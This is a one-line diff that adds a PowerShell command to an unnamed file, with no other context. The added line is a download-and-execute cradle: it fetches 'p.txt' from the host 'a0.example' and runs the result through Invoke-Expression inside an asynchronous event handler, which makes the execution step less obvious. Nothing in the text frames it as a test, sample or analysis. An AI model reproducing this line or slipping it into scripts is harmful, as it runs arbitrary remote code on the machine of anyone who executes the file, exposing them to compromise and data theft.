@@ -1,0 +1,1 @@
+$w=[Net.WebClient]::new();Register-ObjectEvent $w DownloadStringCompleted -Action {iex $EventArgs.Result};$w.DownloadStringAsync([uri]::new('http://a0.example/p.txt'))
